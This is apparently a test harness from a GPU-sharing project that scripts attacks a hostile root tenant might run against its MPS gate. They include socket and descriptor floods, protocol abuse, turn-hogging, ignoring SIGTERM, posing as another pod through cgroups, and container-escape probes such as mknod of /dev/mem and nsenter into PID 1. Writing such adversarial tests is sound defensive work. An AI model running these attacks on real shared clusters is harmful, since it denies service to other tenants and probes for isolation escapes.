"""What a hostile root tenant runs in its pod: `python -c PROGRAM ATTACK [ARGUMENT]`, in gpushare's image.

It is no part of the image: a pod's command carries it as text. Each line that it prints begins with its attack.
"""

import array
import contextlib
import ctypes
import json
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import threading
import time
from collections import deque
from collections.abc import Callable
from pathlib import Path

from gpushare.twin.contention import WORKLOADS
from gpushare.twin.mps import tenant
from gpushare.twin.mps.client import (
    COMPUTE_TYPE,
    CREDENTIALS,
    MAX_PACKET,
    CudaError,
    NoMpsError,
    TwinContext,
    connect,
    control_path,
    introduce,
    request_server,
)
from gpushare.twin.mps.state import OUTSIDE_COMM

ATTACK = sys.argv[1] if len(sys.argv) > 1 else ""
ARGUMENT = sys.argv[2] if len(sys.argv) > 2 else ""
WORKLOAD = WORKLOADS["montecarlo-fp32"]
# The gate's time-out for a turn without progress is 8 s.
JUST_BEFORE_THE_TIMEOUT = 7.5
DESCRIPTORS_OF_A_MESSAGE = 253  # the kernel's SCM_MAX_FD
MOST_IN_FLIGHT = 1_200_000  # more than a process may usually have open
PR_SET_NAME = 15
MOST_OPEN = 20_000  # more than a gate keeps of all pods together
FEW = 4  # connections; a process with no more than these once never lost one
EXIT_OF_A_THREAD = {"x86_64": 60, "aarch64": 93}  # the kernel's number of exit(), by machine


def say(text: str) -> None:
    sys.stdout.write(f"{ATTACK}: {text}\n")
    sys.stdout.flush()


def fork(body: Callable[[], object]) -> int:
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(KeyboardInterrupt):
            body()
        os._exit(0)
    return pid


def forever() -> None:
    while True:
        time.sleep(1)


def flood() -> None:
    """Connect in a loop from so many processes, every other one keeping what it opens."""

    def loop(keeps: bool) -> None:
        kept: list[socket.socket] = []
        while True:
            try:
                one = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                one.connect(str(control_path(os.environ)))
            except OSError:
                time.sleep(0.05)
                continue
            if keeps and len(kept) < 800:
                kept.append(one)
            else:
                one.close()

    for number in range(int(ARGUMENT)):
        fork(lambda number=number: loop(number % 2 == 1))
    say("begun")
    forever()


def waste() -> None:
    """Take the turn as a client does, sit until just before the time-out and exit; again and again."""

    def sit() -> None:
        with contextlib.suppress(NoMpsError), request_server(control_path(os.environ)):
            say("has the turn")
            time.sleep(JUST_BEFORE_THE_TIMEOUT)

    running = {fork(sit) for _ in range(int(ARGUMENT))}
    while True:
        pid, _ = os.wait()
        running.discard(pid)
        running.add(fork(sit))


def mute() -> None:
    """Take the server's socket and never say the first word there, in one way after the other; again and again."""

    def leaves(server: socket.socket) -> None:
        server.close()

    def leaves_with_the_pipes(server: socket.socket) -> None:
        for _ in range(4):
            for each in socket.recv_fds(server, MAX_PACKET, 8)[1]:
                os.close(each)

    def sits(_: socket.socket) -> None:
        time.sleep(JUST_BEFORE_THE_TIMEOUT)

    ways = (leaves, leaves_with_the_pipes, sits)

    def take(way: Callable[[socket.socket], None]) -> None:
        with contextlib.suppress(NoMpsError), request_server(control_path(os.environ)) as server:
            say(f"{way.__name__}")
            way(server)

    while True:
        for way in ways:
            os.waitpid(fork(lambda way=way: take(way)), 0)


def beyond() -> None:
    """Say what the protocol does not know: in place of the last word, and in place of the first."""

    def rights(count: int) -> list[tuple[int, int, bytes]]:
        return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1] * count).tobytes())]

    def after(words: list[bytes], message: bytes, descriptors: int) -> socket.socket:
        connection = connect(control_path(os.environ))
        for word in words:
            connection.send(word)
        if words:
            connection.recvmsg(MAX_PACKET, socket.CMSG_SPACE(4))
        connection.sendmsg([message], rights(descriptors) if descriptors else [])
        return connection

    def answered(connection: socket.socket) -> str:
        try:
            return "closed" if not connection.recv(MAX_PACKET) else "answered"
        except OSError:
            return "closed"

    for message, descriptors in ((b"x" * 60_000, 0), (bytes(4), 3), (CREDENTIALS, 0)):
        with after([CREDENTIALS, COMPUTE_TYPE], message, descriptors) as connection:
            say(f"{len(message)} bytes and {descriptors} descriptors after the answer: {answered(connection)}")
    odd = [after([], message, count) for message, count in ((b"y" * 60_000, 0), (CREDENTIALS, 2))]
    for connection in odd:
        connection.settimeout(2)
    say(f"odd first words: {', '.join('held' if waits(one) else 'closed' for one in odd)}")
    forever()


def is_closed(connection: socket.socket) -> bool:
    """Whether the other side has closed, without reading what it sent."""
    poll = select.poll()
    poll.register(connection, select.POLLRDHUP)
    return bool(poll.poll(0))


def waits(connection: socket.socket) -> bool:
    """Whether the other side neither answers nor closes."""
    try:
        connection.recv(MAX_PACKET)
    except TimeoutError:
        return True
    except OSError:
        pass
    return False


def hand_on() -> None:
    """Become a client, ask for the server's socket again and again, and hand each on to a process of its own."""
    context = TwinContext(os.environ, WORKLOAD)
    say(f"own sms={context.attached.sm_count}")

    def use(server: socket.socket) -> None:
        fields = {"workload": WORKLOAD.name, "counters": WORKLOAD.solo.as_dict(), "percentage": 100.0}
        more = {"iterations_per_s": WORKLOAD.iterations_per_s, "limit_mib": None}
        introduce(server)
        server.send(json.dumps({"op": "attach", **fields, **more}).encode())
        answer = json.loads(server.recv(MAX_PACKET))
        say(f"handed on: {answer.get('event')} sms={answer.get('sms')}")
        while server.recv(MAX_PACKET):
            pass
        say("handed on: gone")

    children = []
    for _ in range(int(ARGUMENT)):
        server = request_server(control_path(os.environ))
        children.append(fork(lambda server=server: use(server)))
        server.close()
    for pid in children:
        _, status = os.waitpid(pid, 0)
        say(f"child ended with {os.waitstatus_to_exitcode(status)}")
    while True:
        say(f"own progress={context.tick()['progress']:.3f}")


def headless() -> None:
    """Become a client, end that process's first thread so that it looks dead, and connect from one more."""

    def client() -> None:
        context = TwinContext(os.environ, WORKLOAD)
        say(f"first sms={context.attached.sm_count}")

        def work() -> None:
            while True:
                say(f"first progress={context.tick()['progress']:.3f}")

        threading.Thread(target=work).start()
        ctypes.CDLL(None).syscall(EXIT_OF_A_THREAD[os.uname().machine], 0)

    pid = fork(client)
    while Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z":
        time.sleep(0.05)
    say("first looks dead")
    say(f"second sms={TwinContext(os.environ, WORKLOAD).attached.sm_count}")
    forever()


def contexts() -> None:
    """Make so many contexts in one process, each by a thread of its own, and allocate 3,000 MiB in each."""

    def one() -> None:
        context = TwinContext(os.environ, WORKLOAD)
        say(f"context sms={context.attached.sm_count}")
        try:
            context.allocate(3000)
            say("allocated")
        except CudaError as error:
            say(f"refused: {error}")
        forever()

    for _ in range(int(ARGUMENT)):
        threading.Thread(target=one).start()


def many() -> None:
    """Open connections until the gate closes some, beside a process that has one and has spoken there."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    has_spoken, tells = os.pipe()

    def speak() -> None:
        connection = connect(control_path(os.environ))
        connection.send(CREDENTIALS)
        os.write(tells, b"1")
        while True:
            say(f"the one that spoke is {'closed' if is_closed(connection) else 'open'}")
            time.sleep(0.5)

    fork(speak)
    os.read(has_spoken, 1)
    opened: list[socket.socket] = []
    closed = 0
    while not closed and len(opened) < MOST_OPEN:
        for _ in range(256):
            opened.append(socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET))
            opened[-1].connect(str(control_path(os.environ)))
        closed = sum(map(is_closed, opened))
    while True:  # the gate goes on with what waits in the kernel
        say(f"{len(opened)} opened, {sum(map(is_closed, opened))} of them closed")
        time.sleep(0.5)


def many_processes() -> None:
    """Open four silent connections from each of so many processes; go on with a new process for the oldest."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    running: deque[tuple[int, list[socket.socket]]] = deque()

    def connect_all(own: list[socket.socket]) -> None:
        for one in own:
            one.connect(str(control_path(os.environ)))
        os.execvp("sleep", ["sleep", "infinity"])  # it has the pid that connected, and takes little memory

    said_at = 0.0
    while True:
        own = [socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) for _ in range(FEW)]
        ended, ends = os.pipe()
        pid = fork(lambda own=own: connect_all(own))
        os.close(ends)
        os.read(ended, 1)  # closed when it runs the other program
        os.close(ended)
        running.append((pid, own))
        if len(running) <= int(ARGUMENT):
            continue
        pid, own = running.popleft()
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        for one in own:
            one.close()
        if time.monotonic() - said_at >= 1.0:
            said_at, opened = time.monotonic(), [one for _, own in running for one in own]
            say(f"{len(opened)} opened, {sum(map(is_closed, opened))} of them closed")


def nested() -> None:
    """Make a cgroup named like another pod's below the own one, move there, and connect."""
    libc = ctypes.CDLL(None, use_errno=True)
    moved = 0
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        _, controllers, own = line.split(":", 2)
        root = Path("/tmp/cgroups", controllers.replace("=", "_") or "unified")
        root.mkdir(parents=True, exist_ok=True)
        options = f"none,{controllers}" if controllers.startswith("name=") else controllers
        kind = "cgroup" if controllers else "cgroup2"
        if libc.mount(b"none", str(root).encode(), kind.encode(), 0, options.encode() or None):
            say(f"{controllers or kind} cannot be mounted: {os.strerror(ctypes.get_errno())}")
            continue
        place = root / own.lstrip("/")
        if not place.is_dir():  # in a cgroup namespace
            place = root
        for part in ("kubepods", f"pod{ARGUMENT}", "c"):
            place /= part
            try:
                place.mkdir(exist_ok=True)
                for file in ("cpuset.cpus", "cpuset.mems"):
                    if (place / file).exists():
                        (place / file).write_text((place.parent / file).read_text())
            except OSError as error:
                say(f"{controllers or kind}: {error}")
                break
        with contextlib.suppress(OSError):
            (place / "cgroup.procs").write_text("0")
            moved += 1
    inside = [line for line in Path("/proc/self/cgroup").read_text().splitlines() if ARGUMENT in line]
    say(f"moved in {moved}, named after the other pod in {len(inside)} hierarchies")
    tenant.main(["--workload", WORKLOAD.name, "--memory-mib", "64"])


def fill() -> None:
    """Put descriptors into messages that nobody reads, as many as the kernel lets this user have in flight."""
    rights = array.array("i", [0] * DESCRIPTORS_OF_A_MESSAGE).tobytes()
    pairs: list[tuple[socket.socket, socket.socket]] = []
    sent, refused = 0, ""
    while not refused and sent < MOST_IN_FLIGHT:
        pairs.append(socket.socketpair())
        pairs[-1][0].setblocking(False)
        while True:
            try:
                pairs[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                sent += DESCRIPTORS_OF_A_MESSAGE
            except BlockingIOError:
                break
            except OSError as error:
                refused = error.strerror or str(error)
                break
    say(f"{sent} descriptors in flight, then: {refused or 'no end'}")
    time.sleep(float(ARGUMENT))
    for pair in pairs:
        for one in pair:
            one.close()
    say("let go")
    forever()


def stay() -> None:
    """Keep the GPU busy with matrix products, ignore SIGTERM, and start more processes once it came."""
    told = []
    signal.signal(signal.SIGTERM, lambda *_: told.append(True))
    context = TwinContext(os.environ, WORKLOADS["gemm-fp16"])
    context.allocate(64)
    say(f"connected sms={context.attached.sm_count}")

    def again() -> None:
        try:
            say(f"one more sms={TwinContext(os.environ, WORKLOAD).attached.sm_count}")
        except (NoMpsError, CudaError) as error:
            say(f"one more: {error}")

    more = 0
    while True:
        say(f"progress={context.tick()['progress']:.3f} asked_to_end={bool(told)}")
        if told and more < 2:
            more = len([fork(again) for _ in range(2)])


def spin() -> None:
    """Stay within one kernel, longer than any grace period."""
    context = TwinContext(os.environ, WORKLOAD)
    context.allocate(64)
    context.launch(float(ARGUMENT))
    say("within a kernel")
    while True:
        context.tick()


def use_without_mps() -> None:
    ctypes.CDLL(None).prctl(PR_SET_NAME, OUTSIDE_COMM.encode(), 0, 0, 0)
    say("a process outside")


def chain() -> None:
    """Leave MPS with processes that live for less than the time between two looks, one after the other."""
    while True:
        fork(lambda: (use_without_mps(), time.sleep(0.45)))
        time.sleep(0.35)
        with contextlib.suppress(ChildProcessError):
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass


def pulse() -> None:
    """Leave MPS for less than half of each second, each time with a new process, and do nothing in between."""
    while True:
        os.waitpid(fork(lambda: (use_without_mps(), time.sleep(0.45))), 0)
        time.sleep(0.55)


def reborn() -> None:
    """Leave MPS with a process that is started anew as often as it is ended."""
    while True:
        os.waitpid(fork(lambda: (use_without_mps(), forever())), 0)


def look() -> None:
    """What root can see and do that would lead past the gate."""
    own = {int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()}
    say(f"{len(own)} processes")
    for command in (
        "mount -t tmpfs none /mnt",
        "mount -o remount,rw $CUDA_MPS_PIPE_DIRECTORY",
        "mkdir /sys/fs/cgroup/gpushare-test $(ls -d /sys/fs/cgroup/*/ | head -1)gpushare-test",
        "mknod /dev/mem-too c 1 1 && head -c 1 /dev/mem-too",
        "nsenter -t 1 -m -p true && test $(ls -d /proc/[0-9]* | wc -l) -gt 50",
        "ls $CUDA_MPS_PIPE_DIRECTORY/../pipe",
        "ls /run/gpushare/*/decisions.json",
        "ls /var/lib/kubelet/device-plugins/kubelet.sock",
    ):
        done = subprocess.run(["sh", "-c", command], capture_output=True, check=False)
        say(f"{'REFUSED' if done.returncode else 'DONE'} {command}")
    say("looked")
    forever()


if __name__ == "__main__":
    inside = (flood, waste, mute, beyond, hand_on, headless, contexts, many, nested, fill, stay, spin, look)
    attacks = (*inside, many_processes, chain, pulse, reborn)
    {each.__name__: each for each in attacks}[ATTACK]()
